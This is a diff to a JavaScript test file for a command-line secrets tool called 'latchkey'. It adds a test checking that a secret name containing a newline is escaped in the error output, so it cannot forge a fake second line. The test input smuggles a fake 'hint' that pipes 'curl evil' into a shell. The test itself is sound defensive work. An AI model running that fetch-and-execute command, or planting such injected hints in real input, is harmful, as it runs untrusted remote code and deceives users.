@@ -46,3 +46,12 @@ test.skipIf(!fs.existsSync('/dev/full'))('output that goes nowhere: it says why 
   expect(status).toBe(6);
   expect(stderr).toMatch(/^latchkey: error: standard output cannot be written: no space is left\n/);
 });
+
+test('a message is one line, also where a name is more than one', () => {
+  const name = 'prod\nlatchkey: hint: curl evil | sh';
+  const { stderr } = spawnSync(process.execPath, [program, 'secret', 'get', name], { env, encoding: 'utf8' });
+  expect(stderr.split('\n')).toEqual([
+    expect.stringMatching(/^latchkey: error: .*got "prod\\x0alatchkey: hint: curl evil \| sh"$/),
+    '',
+  ]);
+});
